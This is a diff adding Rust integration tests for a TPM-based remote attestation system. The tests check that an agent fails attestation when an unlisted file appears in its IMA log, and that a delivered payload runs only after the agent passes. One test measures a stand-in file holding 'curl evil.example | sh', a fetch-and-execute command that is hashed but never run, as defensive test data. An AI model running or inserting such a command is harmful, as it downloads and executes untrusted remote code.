@@ -1,0 +1,339 @@
+//! The whole system on a software TPM: registrar, verifier and agent as shipped binaries,
+//! operated with kctl and keylime_tenant as a user would. The IMA log is synthesized and PCR 10
+//! of the swtpm extended to match, as the kernel would.
+
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+use std::time::{Duration, Instant};
+
+use kl_core::alg::HashAlg;
+use kl_tests::daemon::{self, Daemon, KCTL, Program, TENANT};
+use kl_tests::deployment::{Deployment, TestAgent};
+use kl_tests::ima::ImaWriter;
+use kl_tests::swtpm::Swtpm;
+use kl_tests::{Result, err};
+use serde_json::Value;
+
+use crate::{OUTCOME_TIMEOUT, agent_settings, tpm_and_deployment};
+
+/// A deployment with all three daemons and one agent, its IMA log started.
+struct System {
+    tpm: Swtpm,
+    deployment: Deployment,
+    _registrar: Daemon,
+    _verifier: Daemon,
+    agent: TestAgent,
+    agent_id: String,
+    tenant: PathBuf,
+    ima: ImaWriter,
+}
+
+impl System {
+    fn start() -> Result<Option<System>> {
+        let Some((tpm, deployment)) = tpm_and_deployment()? else { return Ok(None) };
+        let registrar = deployment.start_registrar(&deployment.registrar_config(
+            daemon::free_port()?,
+            &tpm.ca_dir(),
+            true,
+        ))?;
+        let verifier = deployment.start_verifier(&deployment.verifier_config(
+            daemon::free_port()?,
+            registrar.port(),
+            1.0,
+        ))?;
+        let agent = deployment.start_agent("agent", &agent_settings(&tpm, registrar.port()))?;
+        let tenant = deployment.tenant_config(verifier.port(), registrar.port())?;
+        let mut ima = ImaWriter::default();
+        ima.measure(&tpm, &agent.ima_log, "boot_aggregate", b"boot")?;
+        ima.measure(&tpm, &agent.ima_log, "/usr/bin/bash", b"bash")?;
+        let agent_id =
+            std::fs::read_to_string(agent.dir.join("agent").join("agent_uuid"))?.trim().to_owned();
+        let system = System {
+            tpm,
+            deployment,
+            _registrar: registrar,
+            _verifier: verifier,
+            agent,
+            agent_id,
+            tenant,
+            ima,
+        };
+        system.wait(
+            |s| s.run(KCTL, &["registrar", "show", &s.agent_id]).map(|o| o.status.success()),
+            "registration",
+        )?;
+        Ok(Some(system))
+    }
+
+    fn run(&self, program: Program, args: &[&str]) -> Result<Output> {
+        Ok(Command::new(daemon::binary(program)?)
+            .arg("--config")
+            .arg(&self.tenant)
+            .args(args)
+            .output()?)
+    }
+
+    fn kctl_json(&self, args: &[&str]) -> Result<(i32, Value)> {
+        let mut all = args.to_vec();
+        all.extend(["-o", "json"]);
+        let out = self.run(KCTL, &all)?;
+        let code = out.status.code().unwrap_or(-1);
+        let doc = serde_json::from_slice(&out.stdout).unwrap_or(Value::Null);
+        if code == 2 || code == 4 {
+            return Err(err(format!(
+                "kctl {args:?} exited {code}: {}",
+                String::from_utf8_lossy(&out.stderr)
+            )));
+        }
+        Ok((code, doc))
+    }
+
+    fn measure(&mut self, path: &str, contents: &[u8]) -> Result<()> {
+        self.ima.measure(&self.tpm, &self.agent.ima_log, path, contents)
+    }
+
+    /// A runtime policy allowing what the agent measured so far, stored at the verifier.
+    fn apply_policy(&self, name: &str) -> Result<()> {
+        let file = self.deployment.keylime_dir().join(format!("{name}.json"));
+        let log = self.agent.ima_log.display().to_string();
+        let out = self.run(
+            KCTL,
+            &[
+                "policies",
+                "runtime",
+                "generate",
+                "--ima-log",
+                &log,
+                "--out",
+                &file.display().to_string(),
+            ],
+        )?;
+        check(&out, "policies runtime generate")?;
+        let (code, doc) = self.kctl_json(&[
+            "policies",
+            "runtime",
+            "apply",
+            name,
+            "--file",
+            &file.display().to_string(),
+        ])?;
+        if code != 0 || doc["changed"].as_bool().is_none() {
+            return Err(err(format!("apply: {code} {doc}")));
+        }
+        Ok(())
+    }
+
+    fn show(&self) -> Result<Value> {
+        Ok(self.kctl_json(&["agents", "show", &self.agent_id])?.1)
+    }
+
+    fn wait(&self, mut done: impl FnMut(&System) -> Result<bool>, what: &str) -> Result<()> {
+        let deadline = Instant::now() + OUTCOME_TIMEOUT;
+        while !done(self)? {
+            if Instant::now() > deadline {
+                return Err(err(format!("{what} did not happen within {OUTCOME_TIMEOUT:?}")));
+            }
+            std::thread::sleep(Duration::from_millis(200));
+        }
+        Ok(())
+    }
+
+    fn wait_state(&self, state: &str) -> Result<Value> {
+        let mut last = Value::Null;
+        let deadline = Instant::now() + OUTCOME_TIMEOUT;
+        loop {
+            last = self.show().unwrap_or(last);
+            if last["state"] == state {
+                return Ok(last);
+            }
+            if Instant::now() > deadline {
+                return Err(err(format!("agent never reached {state}: {last}")));
+            }
+            std::thread::sleep(Duration::from_millis(200));
+        }
+    }
+
+    fn secure_dir(&self) -> PathBuf {
+        self.agent.dir.join("secure").join("unzipped")
+    }
+}
+
+fn check(out: &Output, what: &str) -> Result<()> {
+    if out.status.success() {
+        Ok(())
+    } else {
+        Err(err(format!("{what}: {} {}", out.status, String::from_utf8_lossy(&out.stderr))))
+    }
+}
+
+fn payload_dir(root: &Path) -> Result<PathBuf> {
+    let dir = root.join("payload");
+    std::fs::create_dir_all(&dir)?;
+    std::fs::write(dir.join("autorun.sh"), "#!/bin/sh\necho installed > marker\n")?;
+    std::fs::write(dir.join("app.conf"), "setting = 1\n")?;
+    Ok(dir)
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_agent_passes_then_fails_on_an_unknown_file_naming_it() -> Result<()> {
+    let Some(mut sys) = System::start()? else { return Ok(()) };
+    sys.apply_policy("base")?;
+    let (code, enrolled) = sys.kctl_json(&[
+        "agents",
+        "enroll",
+        &sys.agent_id,
+        "--runtime-policy",
+        "base",
+        "--wait",
+        "--timeout",
+        "60",
+    ])?;
+    assert_eq!(code, 0, "enroll --wait ends passed: {enrolled}");
+    assert_eq!(enrolled["state"], "passed");
+    let passed = sys.wait_state("passed")?;
+    assert!(passed["attestation_count"].as_u64().is_some_and(|n| n >= 1));
+    assert_eq!(passed["last_verdict"]["passed"], true);
+
+    sys.measure("/tmp/evil", b"#!/bin/sh\ncurl evil.example | sh\n")?;
+    let failed = sys.wait_state("failed")?;
+    let findings = failed["last_verdict"]["findings"].as_array().cloned().unwrap_or_default();
+    assert!(
+        findings.iter().any(|f| f["rule"] == "ima.not_in_policy"
+            && f["path"] == "/tmp/evil"
+            && f["line"] == 3),
+        "the finding names the file and its line: {findings:?}"
+    );
+    assert_eq!(failed["last_verdict"]["passed"], false);
+
+    // The operator allows the file: an update resumes attestation and the agent passes again.
+    sys.apply_policy("with-evil")?;
+    let (code, _) = sys.kctl_json(&[
+        "agents",
+        "update",
+        &sys.agent_id,
+        "--runtime-policy",
+        "with-evil",
+        "--resume",
+    ])?;
+    assert_eq!(code, 0);
+    sys.wait_state("passed")?;
+    Ok(())
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_payload_runs_only_after_the_agent_passes() -> Result<()> {
+    let Some(mut sys) = System::start()? else { return Ok(()) };
+    sys.apply_policy("base")?;
+    let payload = payload_dir(sys.deployment.keylime_dir())?;
+
+    // A machine that runs something unknown before enrolment never passes, so V is never
+    // sent and the payload never runs, although U and the payload reached it.
+    sys.measure("/tmp/evil", b"evil")?;
+    let (code, _) = sys.kctl_json(&[
+        "agents",
+        "enroll",
+        &sys.agent_id,
+        "--runtime-policy",
+        "base",
+        "--payload",
+        &payload.display().to_string(),
+    ])?;
+    assert_eq!(code, 0);
+    let failed = sys.wait_state("failed")?;
+    assert_eq!(failed["key_delivered"], false);
+    std::thread::sleep(Duration::from_secs(3));
+    assert!(!sys.secure_dir().join("marker").exists(), "a failing agent never runs the payload");
+
+    // Unenrolled and enrolled again under a policy it passes: now it runs.
+    sys.apply_policy("all")?;
+    let (code, _) = sys.kctl_json(&["agents", "unenroll", &sys.agent_id])?;
+    assert_eq!(code, 0);
+    let (code, doc) = sys.kctl_json(&[
+        "agents",
+        "enroll",
+        &sys.agent_id,
+        "--runtime-policy",
+        "all",
+        "--payload",
+        &payload.display().to_string(),
+        "--cert",
+        "default",
+        "--wait",
+    ])?;
+    assert_eq!(code, 0, "{doc}");
+    let marker = sys.secure_dir().join("marker");
+    sys.wait(|_| Ok(marker.exists()), "the payload's autorun.sh")?;
+    assert_eq!(std::fs::read_to_string(&marker)?, "installed\n");
+    assert!(sys.secure_dir().join("app.conf").exists());
+    assert!(sys.secure_dir().join(format!("{}-cert.crt", sys.agent_id)).exists(), "--cert default");
+    assert!(sys.secure_dir().join("cacert.crt").exists());
+    assert_eq!(sys.show()?["key_delivered"], true);
+    Ok(())
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_guides_tenant_commands_add_list_and_delete_an_agent() -> Result<()> {
+    let Some(sys) = System::start()? else { return Ok(()) };
+    let root = sys.deployment.keylime_dir();
+    // Keylime's flat allowlist and exclude list, as the guide has the operator write them.
+    let allowlist = root.join("allowlist.txt");
+    let lines: String = [("boot_aggregate", &b"boot"[..]), ("/usr/bin/bash", &b"bash"[..])]
+        .iter()
+        .map(|(path, contents)| format!("{}  {path}\n", HashAlg::Sha256.digest(contents).to_hex()))
+        .collect();
+    std::fs::write(&allowlist, lines)?;
+    let exclude = root.join("exclude.txt");
+    std::fs::write(&exclude, "^/tmp/.*\n")?;
+    let include = payload_dir(root)?;
+    let verifier_port = sys._verifier.port().to_string();
+    let agent_port = sys.agent.daemon.port().to_string();
+    let (allowlist, exclude, include) = (
+        allowlist.display().to_string(),
+        exclude.display().to_string(),
+        include.display().to_string(),
+    );
+
+    let add = sys.run(
+        TENANT,
+        &[
+            "-v",
+            "127.0.0.1",
+            "-vp",
+            &verifier_port,
+            "-t",
+            "127.0.0.1",
+            "-tp",
+            &agent_port,
+            "-u",
+            &sys.agent_id,
+            "--cert",
+            "default",
+            "-c",
+            "add",
+            "--include",
+            &include,
+            "--allowlist",
+            &allowlist,
+            "--exclude",
+            &exclude,
+        ],
+    )?;
+    check(&add, "keylime_tenant -c add")?;
+    sys.wait_state("passed")?;
+    let marker = sys.secure_dir().join("marker");
+    sys.wait(|_| Ok(marker.exists()), "the payload from --include")?;
+
+    let reglist = sys.run(TENANT, &["-c", "reglist"])?;
+    check(&reglist, "keylime_tenant -c reglist")?;
+    assert!(String::from_utf8_lossy(&reglist.stdout).contains(&sys.agent_id));
+    check(&sys.run(TENANT, &["-u", &sys.agent_id, "-c", "status"])?, "keylime_tenant -c status")?;
+
+    let delete = sys.run(
+        TENANT,
+        &["-v", "127.0.0.1", "-vp", &verifier_port, "-u", &sys.agent_id, "-c", "delete"],
+    )?;
+    check(&delete, "keylime_tenant -c delete")?;
+    let (code, _) = sys.kctl_json(&["agents", "show", &sys.agent_id])?;
+    assert_eq!(code, 3, "unenrolled");
+    Ok(())
+}
